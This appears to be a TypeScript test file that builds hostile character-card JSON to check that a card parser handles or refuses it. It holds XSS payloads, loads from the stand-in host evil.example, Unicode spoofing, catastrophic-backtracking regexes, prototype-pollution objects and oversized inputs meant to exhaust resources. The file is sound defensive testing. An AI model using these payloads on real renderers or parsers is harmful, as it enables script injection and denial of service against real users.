/** Hostile words, names and structures in cards, as JSON. */

import { type HostileCard, jsonCard, reads, refused, withData } from "./hostile-card.ts";

/** What runs, loads or leaves where it is taken for more than text. */
const ATTACKS: readonly (readonly [title: string, text: string])[] = [
  ["a script", "<script>canary(1)</script>"],
  ["an image", '"><img src=x onerror=canary(2)>'],
  ["SVG with a script", "<svg><script>canary(3)</script></svg>"],
  ["SVG that loads", "<svg/onload=canary(4)><animate onbegin=canary(4) attributeName=x>"],
  ["SVG as data", '<img src="data:image/svg+xml,<svg onload=canary(5) xmlns=x>">'],
  ["a frame", "<iframe srcdoc='<script>parent.canary(6)</script>'></iframe>"],
  ["a style sheet", "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x>"],
  ["an import of styles", "@import url(https://evil.example/x.css);"],
  ["a refresh", '<meta http-equiv=refresh content="0;url=https://evil.example/">'],
  [
    "a base and a form",
    "<base href=//evil.example><form action=/x><input autofocus onfocus=canary(7)>",
  ],
  ["a script's address", "[x](javascript:canary(8)) <a href=javascript:canary(8)>x</a>"],
  ["a picture elsewhere", "![p](https://evil.example/pixel.png)"],
  [
    "a template of programs",
    "{{constructor.constructor('canary(9)')()}} ${canary(9)} #{canary(9)}",
  ],
  ["macros", "{{char}}{{user}}{{random:{{roll:9}},{{pick:a,b}}}}{{// {{char}}"],
  ["a document's end", "--></textarea></title></noscript><script>canary(10)</script>]]>"],
  [
    "mutation",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=canary(11)>'>",
  ],
  ["a way to turn", "\u202egnp.exe\u202c \u2067\u2066\u2068"],
  ["bytes of a terminal", "\u0000\u0007\u001b[2J\u001b]0;x\u0007\u0085\u2028\u2029\ufffe"],
];

const NAMES: readonly (readonly [title: string, name: string])[] = [
  ["half a surrogate", "\ud83dAda\udc00"],
  ["nothing to see", "\u200b\u2060\u3164\u2800"],
  ["marks in a pile", `Z${"\u0351\u0321".repeat(39)}`],
  ["the widest signs", "\ufdfd".repeat(80)],
  ["no place to break", "W".repeat(80)],
  ["one over the limit", "n".repeat(81)],
  ["a quarter of a million letters", "n".repeat(262_144)],
  ["a quarter of a million marks", `n${"\u0e49".repeat(262_000)}`],
  ["lines and tabs", "A\r\n\t\u2028d\u0000a"],
  ["turned around", "\u202eadA\u202c"],
  ["the reader's own", "You"],
  ["the program's in other letters", "С\u043enclave"],
  [
    "unseen tags",
    `Ada${
      [..."evil"].map((unit) => String.fromCodePoint(0xe0000 + (unit.codePointAt(0) ?? 0))).join("")
    }`,
  ],
  ["one family of many", "👩‍👩‍👧‍👦".repeat(7)],
  ["an element", "<b onclick=canary(20)>Ada</b>"],
  ["what objects inherit", "__proto__"],
];

const FIELDS = [
  ...["name", "nickname", "description", "personality", "scenario", "first_mes", "mes_example"],
  ...["system_prompt", "post_history_instructions", "creator_notes", "creator"],
  ...["character_version"],
];

function everywhere(text: string): object {
  return {
    ...Object.fromEntries(FIELDS.map((field) => [field, text])),
    name: text.slice(0, 80),
    nickname: "",
    tags: [text, { text }],
    source: [text],
    creator_notes_multilingual: { [text]: text },
    alternate_greetings: [text, text],
    group_only_greetings: [text],
    assets: [{ type: text, uri: text, name: text, ext: text }],
    extensions: { [text]: { [text]: text }, regex_scripts: [{ findRegex: text }] },
    [text]: text,
    character_book: lore(2, { keys: [text], comment: text, name: text, content: text }),
  };
}

function lore(count: number, entry: object): object {
  const whole = { keys: ["k"], content: "c", enabled: true, insertion_order: 1, extensions: {} };
  return { name: "b", extensions: {}, entries: Array(count).fill({ ...whole, ...entry }) };
}

const withText = (raw: string): string =>
  JSON.stringify(withData({ odd: "RAW" })).replace('"RAW"', () => raw);
const many = (count: number, part: (at: number) => string): string =>
  Array.from({ length: count }, (_, at) => part(at)).join();

/** What costs more to read than it looks. */
const COSTLY: readonly (readonly [title: string, data: object])[] = [
  ["4,000 lore entries of patterns that are too large", {
    character_book: lore(4_000, {
      use_regex: true,
      keys: Array(40).fill("((x{12}){12}){14}"),
    }),
  }],
  ["4,000 lore entries of 400 ways each", {
    character_book: lore(4_000, { use_regex: true, keys: ["a|".repeat(400)] }),
  }],
  ["4,000 lore entries that look ahead", {
    character_book: lore(4_000, {
      use_regex: true,
      keys: Array(16).fill("((x{12}){12})a(?=b)"),
    }),
  }],
  ["patterns that hang others", {
    character_book: lore(64, { use_regex: true, keys: ["(a+)+$", "(a|aa)*b", "(.*)*x"] }),
  }],
  ["a pattern of a quarter of a million groups", {
    character_book: lore(4, { use_regex: true, keys: ["(".repeat(250_000)] }),
  }],
  ["a lore entry of 590,000 decorators", {
    character_book: lore(1, { content: "@@a b\n".repeat(590_000) }),
  }],
  ["her name 800 times in her words", {
    name: "中".repeat(200_000),
    personality: "<bot>".repeat(800),
  }],
  ["open tags without an end", { description: "<a".repeat(130_000) }],
  ["addresses without an end", { scenario: "https://".repeat(30_000) }],
  ["spaces between two letters", { name: `x${" ".repeat(262_000)}x` }],
  ["macros in macros", { description: "{{random:".repeat(28_000) }],
  ["a million tags", { tags: Array(1_000_000).fill(1) }],
];

const RAW: readonly (readonly [title: string, json: () => string])[] = [
  ["1.3 million objects", () => withText(`[${many(1_300_000, () => "{}")}]`)],
  [
    "180,000 numbers that are rounded",
    () => withText(`[${many(180_000, () => "9007199254740993")}]`),
  ],
  ["12,000 numbers of 300 digits", () => withText(`[${many(12_000, () => "9".repeat(300))}]`)],
  [
    "300,000 names that are numbers",
    () => withText(`{${many(290_000, (at) => `"${at * 14}":1`)}}`),
  ],
  ["a name given 400,000 times", () => withText(`{${many(400_000, () => '"k":1')}}`)],
  ["a text of escapes", () => withText(`"${"\\u0000".repeat(690_000)}"`)],
  [
    "prototypes",
    () =>
      withText('{"__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}').replace(
        '{"spec"',
        '{"__proto__":{"polluted":1,"data":{"name":"Eve"}},"spec"',
      ),
  ],
  [
    "a prototype for data",
    () =>
      '{"__proto__":{"data":{"name":"Eve"}},"spec":"chara_card_v3","data":{"__proto__":{"name":"Eve"},"name":"Ada","description":"d"}}',
  ],
];

const REFUSED: readonly (readonly [title: string, json: () => string])[] = [
  [
    "ten thousand lore entries",
    () => JSON.stringify(withData({ character_book: lore(10_000, {}) })),
  ],
  [
    "five thousand greetings",
    () => JSON.stringify(withData({ alternate_greetings: Array(5_000).fill("<b>") })),
  ],
  ["two million open brackets", () => "[".repeat(2_000_000)],
  ["half a million open objects", () => '{"a":'.repeat(500_000)],
  ["one level too deep", () => withText(`${"[".repeat(63)}${"]".repeat(63)}`)],
  ["a number of four million digits", () => withText("9".repeat(3_900_000))],
  ["a text over the limit", () => JSON.stringify(withData({ description: "x".repeat(262_145) }))],
  ["a name of nothing", () => JSON.stringify(withData({ name: " \n\t " }))],
  ["data that is a list", () => '{"spec":"chara_card_v3","data":[{"name":"Ada"}]}'],
  ["only a prototype", () => '{"__proto__":{"spec":"chara_card_v3","data":{"name":"Ada"}}}'],
  ["only a prototype inside", () => '{"spec":"chara_card_v3","data":{"__proto__":{"name":"Ada"}}}'],
  ["a script file", () => "alert(1)//<script>canary(30)</script>"],
  ["a page", () => "<!doctype html><script>canary(31)</script>"],
  ["SVG", () => '<svg xmlns="http://www.w3.org/2000/svg" onload="canary(32)"/>'],
  ["JSON and a script behind", () => `${JSON.stringify(withData({}))}<script>canary(33)</script>`],
];

export const cardTextCases: readonly HostileCard[] = [
  ...ATTACKS.map(([title, text]) =>
    reads(`everywhere: ${title}`, () => jsonCard(withData(everywhere(text))))
  ),
  ...FIELDS.map((field) =>
    reads(`every attack in ${field}`, () => {
      const all = ATTACKS.map(([, text]) => text).join("\n");
      return jsonCard(withData({ name: "Ada", [field]: all }));
    })
  ),
  ...NAMES.map(([title, name]) =>
    reads(`name: ${title}`, () => jsonCard(withData({ name, personality: "{{char}} hums." })))
  ),
  ...COSTLY.map(([title, data]) => reads(`cost: ${title}`, () => jsonCard(withData(data)))),
  ...RAW.map(([title, json]) => reads(`cost: ${title}`, () => jsonCard(json()))),
  ...REFUSED.map(([title, json]) => refused(`no card: ${title}`, () => jsonCard(json()))),
];
